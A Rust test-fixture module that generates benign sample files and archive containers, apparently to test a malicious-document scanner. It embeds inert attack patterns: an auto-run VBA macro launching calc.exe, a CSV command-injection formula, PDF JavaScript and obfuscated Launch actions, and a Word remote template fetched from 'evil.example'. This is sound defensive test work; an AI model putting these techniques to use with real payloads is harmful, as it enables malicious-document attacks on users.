//! Harmless files of many types, and containers around them, written by this code.

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};
use std::io::Write;

pub struct Sample {
    pub name: &'static str,
    pub bytes: Vec<u8>,
    /// `Kind::word`.
    pub kind: &'static str,
    /// `Fact::word` of what must be told, of the file or of something inside it.
    pub facts: &'static [&'static str],
}

fn sample(name: &'static str, kind: &'static str, bytes: impl Into<Vec<u8>>, facts: &'static [&'static str]) -> Sample {
    Sample { name, bytes: bytes.into(), kind, facts }
}

/// Files that are no archives.
pub fn files() -> Vec<Sample> {
    let mut program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    program.extend([0; 44]);
    program.extend(b"\x40\0\0\0PE\0\0\x4c\x01");
    program.resize(200, 0);
    let mut shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F".to_vec();
    shortcut.resize(80, 0);
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    elf.resize(120, 0);
    let picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde".to_vec();
    let macros = vba(b"Sub AutoOpen()\r\n x = Shell(\"calc.exe\")\r\nEnd Sub\r\n");
    let docm =
        zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", &macros)], true);
    let docx = zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document>text</w:document>")], true);
    let template = zip(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/_rels/settings.xml.rels", b"<Relationships><Relationship Type=\"http://x.example/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"),
        ],
        true,
    );
    vec![
        sample("setup.exe", "pe", program, &[]),
        sample("tool", "elf", elf, &[]),
        sample("open.lnk", "shortcut", shortcut, &[]),
        sample("run.sh", "script", *b"#!/bin/sh\necho harmless\n", &[]),
        sample(
            "page.html",
            "html",
            *b"<html><body><form method=post action=x><input type=password></form></body></html>",
            &["password-form"],
        ),
        sample("drawing.svg", "svg", *b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", &["svg-script"]),
        sample("script.pdf", "pdf", pdf("/OpenAction << /S /JavaScript /JS (1) >>"), &["pdf-javascript", "pdf-open-action"]),
        sample("start.pdf", "pdf", pdf("/OpenAction << /S /L#61unch /F (x) >>"), &["pdf-launch"]),
        sample("clean.pdf", "pdf", pdf("/Lang (en)"), &[]),
        sample("old.doc", "ole", macros.clone(), &["macro", "auto-run", "suspicious-macro"]),
        sample("new.docm", "zip", docm, &["macro", "auto-run", "suspicious-macro"]),
        sample("clean.docx", "zip", docx, &[]),
        sample("remote.docx", "zip", template, &["external-template"]),
        sample("object.rtf", "rtf", *b"{\\rtf1{\\object\\objupdate{\\*\\objdata 010500000200}}}", &["embedded-object", "auto-run"]),
        sample("table.csv", "text", *b"a,b\n=cmd|'/c calc'!A1,2\n", &["csv-command"]),
        sample("dot.png", "image", picture, &[]),
        sample("notes.txt", "text", *b"Nothing but text.\nTwo lines of it.\n", &[]),
    ]
}

pub fn pdf(catalog: &str) -> Vec<u8> {
    format!("%PDF-1.4\n1 0 obj\n<< /Type /Catalog {catalog} /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n").into_bytes()
}

/// A container around one file: what to call it, its kind, its octets, and how the entry is called in it.
pub struct Container {
    pub extension: &'static str,
    pub kind: &'static str,
    pub wrap: fn(&str, &[u8]) -> Vec<u8>,
}

pub const CONTAINERS: &[Container] = &[
    Container { extension: "stored.zip", kind: "zip", wrap: |name, bytes| zip(&[(name, bytes)], false) },
    Container { extension: "packed.zip", kind: "zip", wrap: |name, bytes| zip(&[(name, bytes)], true) },
    Container { extension: "twice.zip", kind: "zip", wrap: |name, bytes| zip(&[("inner.zip", &zip(&[(name, bytes)], true))], false) },
    Container { extension: "tar", kind: "tar", wrap: tar },
    Container { extension: "tar.gz", kind: "gzip", wrap: |name, bytes| gzip("", &tar(name, bytes)) },
    Container { extension: "gz", kind: "gzip", wrap: gzip },
    Container { extension: "zip.bz2", kind: "bzip2", wrap: |name, bytes| bzip2(&zip(&[(name, bytes)], false)) },
    Container { extension: "cab", kind: "cab", wrap: cab },
    Container { extension: "iso", kind: "iso", wrap: iso },
    Container { extension: "rar", kind: "rar", wrap: rar },
    Container { extension: "eml", kind: "message", wrap: message },
    Container { extension: "7z", kind: "7z", wrap: sevenz },
    Container { extension: "winmail.dat", kind: "tnef", wrap: tnef },
];

pub fn zip(entries: &[(&str, &[u8])], packed: bool) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, bytes) in entries {
        let data = if packed {
            let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
            encoder.write_all(bytes).unwrap();
            encoder.finish().unwrap()
        } else {
            bytes.to_vec()
        };
        let mut crc = flate2::Crc::new();
        crc.update(bytes);
        let mut common = Vec::new();
        common.extend([20u16, 0, if packed { 8 } else { 0 }, 0, 0x21].iter().flat_map(|n| n.to_le_bytes()));
        common.extend([crc.sum(), data.len() as u32, bytes.len() as u32].iter().flat_map(|n| n.to_le_bytes()));
        common.extend([name.len() as u16, 0].iter().flat_map(|n| n.to_le_bytes()));
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&common);
        directory.extend([0; 10]);
        directory.extend((out.len() as u32).to_le_bytes());
        directory.extend(name.as_bytes());
        out.extend(b"PK\x03\x04");
        out.extend(&common);
        out.extend(name.as_bytes());
        out.extend(data);
    }
    let start = out.len() as u32;
    out.extend(&directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend([entries.len() as u16; 2].iter().flat_map(|n| n.to_le_bytes()));
    out.extend([directory.len() as u32, start].iter().flat_map(|n| n.to_le_bytes()));
    out.extend([0; 2]);
    out
}

fn tar(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut header = vec![0; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..108].copy_from_slice(b"0000644\0");
    header[124..136].copy_from_slice(format!("{:011o}\0", bytes.len()).as_bytes());
    header[136..148].copy_from_slice(b"00000000000\0");
    header[148..156].copy_from_slice(b"        ");
    header[156] = b'0';
    header[257..265].copy_from_slice(b"ustar\x0000");
    let sum: u32 = header.iter().map(|b| u32::from(*b)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header.extend(bytes);
    header.resize(header.len().div_ceil(512) * 512 + 1024, 0);
    header
}

fn gzip(name: &str, bytes: &[u8]) -> Vec<u8> {
    let builder = flate2::GzBuilder::new();
    let mut encoder: GzEncoder<Vec<u8>> = if name.is_empty() {
        builder.write(Vec::new(), Compression::best())
    } else {
        builder.filename(name).write(Vec::new(), Compression::best())
    };
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn bzip2(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// One stored folder; larger files would need further blocks.
fn cab(name: &str, bytes: &[u8]) -> Vec<u8> {
    assert!(bytes.len() <= 32_768);
    let file_at = 36 + 8;
    let data_at = file_at + 16 + name.len() + 1;
    let size = data_at + 8 + bytes.len();
    let mut out = b"MSCF\0\0\0\0".to_vec();
    out.extend([size as u32, 0, file_at as u32, 0].iter().flat_map(|n| n.to_le_bytes()));
    out.extend([3, 1]);
    out.extend([1u16, 1, 0, 0, 0].iter().flat_map(|n| n.to_le_bytes()));
    out.extend((data_at as u32).to_le_bytes());
    out.extend([1u16, 0].iter().flat_map(|n| n.to_le_bytes()));
    out.extend([bytes.len() as u32, 0].iter().flat_map(|n| n.to_le_bytes()));
    out.extend([0u16, 0x5A21, 0, 0x20].iter().flat_map(|n| n.to_le_bytes()));
    out.extend(name.as_bytes());
    out.push(0);
    out.extend(0u32.to_le_bytes());
    out.extend([bytes.len() as u16; 2].iter().flat_map(|n| n.to_le_bytes()));
    out.extend(bytes);
    out
}

/// A volume with one file in its root.
fn iso(name: &str, bytes: &[u8]) -> Vec<u8> {
    const SECTOR: usize = 2048;
    let record = |name: &[u8], extent: u32, size: u32, flags: u8| {
        let len = (33 + name.len()).div_ceil(2) * 2;
        let mut record = vec![0; len];
        record[0] = len as u8;
        record[2..6].copy_from_slice(&extent.to_le_bytes());
        record[6..10].copy_from_slice(&extent.to_be_bytes());
        record[10..14].copy_from_slice(&size.to_le_bytes());
        record[14..18].copy_from_slice(&size.to_be_bytes());
        record[25] = flags;
        record[28] = 1;
        record[31] = 1;
        record[32] = name.len() as u8;
        record[33..33 + name.len()].copy_from_slice(name);
        record
    };
    let mut out = vec![0; 19 * SECTOR];
    let volume = 16 * SECTOR;
    out[volume..volume + 7].copy_from_slice(b"\x01CD001\x01");
    let blocks = (20 + bytes.len().div_ceil(SECTOR)) as u32;
    out[volume + 80..volume + 84].copy_from_slice(&blocks.to_le_bytes());
    out[volume + 84..volume + 88].copy_from_slice(&blocks.to_be_bytes());
    out[volume + 128..volume + 132].copy_from_slice(b"\0\x08\x08\0");
    let root = record(&[0], 18, SECTOR as u32, 2);
    out[volume + 156..volume + 156 + root.len()].copy_from_slice(&root);
    out[17 * SECTOR..17 * SECTOR + 7].copy_from_slice(b"\xffCD001\x01");
    let mut at = 18 * SECTOR;
    for entry in
        [root, record(&[1], 18, SECTOR as u32, 2), record(format!("{};1", name.to_uppercase()).as_bytes(), 19, bytes.len() as u32, 0)]
    {
        out[at..at + entry.len()].copy_from_slice(&entry);
        at += entry.len();
    }
    out.extend(bytes);
    out.resize(out.len().div_ceil(SECTOR) * SECTOR, 0);
    out
}

fn checked(header: &[u8]) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(header);
    [&crc.sum().to_le_bytes(), header].concat()
}

/// RAR 5, stored.
fn rar(name: &str, bytes: &[u8]) -> Vec<u8> {
    let number = |mut value: usize| {
        let mut out = Vec::new();
        while value > 127 {
            out.push((value & 127) as u8 | 128);
            value >>= 7;
        }
        out.push(value as u8);
        out
    };
    let block = |content: Vec<u8>| checked(&[number(content.len()), content].concat());
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    let file = [
        vec![2, 2],
        number(bytes.len()),
        vec![4],
        number(bytes.len()),
        vec![0x20],
        crc.sum().to_le_bytes().to_vec(),
        vec![0, 0],
        number(name.len()),
        name.as_bytes().to_vec(),
    ]
    .concat();
    [b"Rar!\x1a\x07\x01\0".to_vec(), block(vec![1, 0, 0]), block(file), bytes.to_vec(), block(vec![5, 0, 0])].concat()
}

/// 7z with one stored file.
fn sevenz(name: &str, bytes: &[u8]) -> Vec<u8> {
    let number = |value: usize| [vec![0xC0 | (value >> 16) as u8], (value as u16).to_le_bytes().to_vec()].concat();
    let crc = |bytes: &[u8]| {
        let mut crc = flate2::Crc::new();
        crc.update(bytes);
        crc.sum().to_le_bytes().to_vec()
    };
    let wide: Vec<u8> = name.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
    let header = [
        vec![1, 4, 6, 0, 1, 9],
        number(bytes.len()),
        vec![0, 7, 0x0B, 1, 0, 1, 1, 0, 0x0C],
        number(bytes.len()),
        vec![0x0A, 1],
        crc(bytes),
        vec![0, 0, 5, 1, 0x11],
        number(wide.len() + 1),
        vec![0],
        wide,
        vec![0, 0],
    ]
    .concat();
    let start = [(bytes.len() as u64).to_le_bytes().to_vec(), (header.len() as u64).to_le_bytes().to_vec(), crc(&header)].concat();
    [b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), crc(&start), start, bytes.to_vec(), header].concat()
}

fn tnef(name: &str, bytes: &[u8]) -> Vec<u8> {
    let attribute = |level: u8, id: u32, data: &[u8]| {
        let sum = data.iter().fold(0u16, |sum, b| sum.wrapping_add(u16::from(*b)));
        [vec![level], id.to_le_bytes().to_vec(), (data.len() as u32).to_le_bytes().to_vec(), data.to_vec(), sum.to_le_bytes().to_vec()]
            .concat()
    };
    let title = [name.as_bytes(), b"\0"].concat();
    [
        b"\x78\x9f\x3e\x22\x01\0".to_vec(),
        attribute(1, 0x0008_9006, &[0, 0, 1, 0]),
        attribute(2, 0x0006_9002, &[1, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0x20, 0, 0x20, 0, 0, 0, 0, 0]),
        attribute(2, 0x0001_8010, &title),
        attribute(2, 0x0006_800F, bytes),
    ]
    .concat()
}

pub fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (number, chunk) in bytes.chunks(3).enumerate() {
        if number > 0 && number % 19 == 0 {
            out.push_str("\r\n");
        }
        let bits = chunk.iter().enumerate().fold(0u32, |b, (i, o)| b | u32::from(*o) << (16 - 8 * i));
        (0..4).for_each(|i| out.push(if i <= chunk.len() { char::from(ALPHABET[(bits >> (18 - 6 * i) & 63) as usize]) } else { '=' }));
    }
    out
}

/// A message with a text and a file.
pub fn letter(text: &str, name: &str, bytes: &[u8]) -> Vec<u8> {
    format!(
        "From: Anna Berg <anna.berg@example.com>\r\nTo: user@example.org\r\nSubject: Minutes of the meeting\r\nDate: Tue, 3 Mar 2026 10:00:00 +0000\r\n\
         Message-ID: <20260303.1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"letter\"\r\n\r\n\
         --letter\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--letter\r\nContent-Type: application/octet-stream; name=\"{name}\"\r\n\
         Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--letter--\r\n",
        base64(bytes)
    )
    .into_bytes()
}

fn message(name: &str, bytes: &[u8]) -> Vec<u8> {
    letter("see the file", name, bytes)
}

/// MS-OVBA §2.4.1: a compressed container of literal tokens alone; up to 3,600 octets.
fn container(text: &[u8]) -> Vec<u8> {
    let tokens: Vec<u8> = text.chunks(8).flat_map(|chunk| [&[0], chunk].concat()).collect();
    [vec![1], (0xB000 | (tokens.len() as u16 - 1)).to_le_bytes().to_vec(), tokens].concat()
}

/// MS-OVBA §2.3.4.2: what the project's one module is called and where its source begins.
fn project_records(offset: u32) -> Vec<u8> {
    let wide: Vec<u8> = "Module1".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = Vec::new();
    let mut record = |id: u16, data: &[u8]| {
        out.extend(id.to_le_bytes());
        out.extend((data.len() as u32).to_le_bytes());
        out.extend(data);
    };
    record(1, &1u32.to_le_bytes());
    record(2, &0x409u32.to_le_bytes());
    record(0x14, &0x409u32.to_le_bytes());
    record(3, &1252u16.to_le_bytes());
    record(4, b"Project");
    [5, 0x40, 6, 0x3D].into_iter().for_each(|id| record(id, b""));
    record(7, &0u32.to_le_bytes());
    record(8, &0u32.to_le_bytes());
    // The size of this record does not count its last two octets.
    record(9, &1u32.to_le_bytes());
    record(0, b"");
    out.truncate(out.len() - 4);
    let mut record = |id: u16, data: &[u8]| {
        out.extend(id.to_le_bytes());
        out.extend((data.len() as u32).to_le_bytes());
        out.extend(data);
    };
    record(0xC, b"");
    record(0x3C, b"");
    record(0xF, &1u16.to_le_bytes());
    record(0x13, &0xFFFFu16.to_le_bytes());
    record(0x19, b"Module1");
    record(0x47, &wide);
    record(0x1A, b"Module1");
    record(0x32, &wide);
    record(0x1C, b"");
    record(0x48, b"");
    record(0x31, &offset.to_le_bytes());
    record(0x1E, &0u32.to_le_bytes());
    record(0x2C, &0xFFFFu16.to_le_bytes());
    [0x21, 0x2B, 0x10].into_iter().for_each(|id| record(id, b""));
    out
}

/// A compound file with a project whose one module has this source.
pub fn vba(source: &[u8]) -> Vec<u8> {
    const END: u32 = 0xFFFF_FFFE;
    const NONE: u32 = u32::MAX;
    let text = [b"Attribute VB_Name = \"Module1\"\r\n".as_slice(), source].concat();
    let module = [vec![0; 20], container(&text)].concat();
    let streams: [(&str, Vec<u8>); 4] = [
        ("_VBA_PROJECT", b"\xcc\x61\xff\xff\0\0\0".to_vec()),
        ("dir", container(&project_records(20))),
        ("Module1", module),
        ("PROJECT", b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\n".to_vec()),
    ];
    let mut sectors: Vec<u8> = Vec::new();
    let mut table: Vec<u32> = Vec::new();
    let mut put = |bytes: &[u8]| {
        let start = table.len() as u32;
        let count = bytes.len().div_ceil(512).max(1) as u32;
        sectors.extend(bytes);
        sectors.resize((start + count) as usize * 512, 0);
        table.extend((start + 1..start + count).chain([END]));
        start
    };
    let entry = |name: &str, kind: u8, right: u32, child: u32, start: u32, size: u32| {
        let wide: Vec<u8> = name.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
        let mut out = wide.clone();
        out.resize(64, 0);
        out.extend((wide.len() as u16).to_le_bytes());
        out.extend([kind, 1]);
        out.extend([NONE, right, child].iter().flat_map(|n| n.to_le_bytes()));
        out.extend([0; 36]);
        out.extend([start, size, 0].iter().flat_map(|n| n.to_le_bytes()));
        out
    };
    // MS-CFB §2.4: small streams share one, in pieces of 64 octets.
    let (mut small, mut small_table): (Vec<u8>, Vec<u32>) = (Vec::new(), Vec::new());
    let mut entries = Vec::new();
    for (number, (name, bytes)) in streams.iter().enumerate() {
        let right = if number < 2 { number as u32 + 3 } else { NONE };
        let start = small_table.len() as u32;
        let count = bytes.len().div_ceil(64) as u32;
        small.extend(bytes);
        small.resize((start + count) as usize * 64, 0);
        small_table.extend((start + 1..start + count).chain([END]));
        entries.extend(entry(name, 2, right, NONE, start, bytes.len() as u32));
    }
    let small_at = put(&small);
    let mut small_fat: Vec<u8> = small_table.iter().flat_map(|n| n.to_le_bytes()).collect();
    assert!(small_fat.len() <= 512);
    small_fat.resize(512, 0xFF);
    let small_fat_at = put(&small_fat);
    let folder = [entry("Root Entry", 5, NONE, 1, small_at, small.len() as u32), entry("VBA", 1, 5, 2, 0, 0), entries].concat();
    let folder_at = put(&folder);
    let table_at = table.len() as u32;
    table.push(0xFFFF_FFFD);
    let mut fat: Vec<u8> = table.iter().flat_map(|n| n.to_le_bytes()).collect();
    assert!(fat.len() <= 512);
    fat.resize(512, 0xFF);
    let mut head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    head.extend([0; 16]);
    head.extend([0x3Eu16, 3, 0xFFFE, 9, 6].iter().flat_map(|n| n.to_le_bytes()));
    head.extend([0; 6]);
    head.extend([0, 1, folder_at, 0, 4096, small_fat_at, 1, END, 0, table_at].iter().flat_map(|n: &u32| n.to_le_bytes()));
    head.resize(512, 0xFF);
    [head, sectors, fat].concat()
}
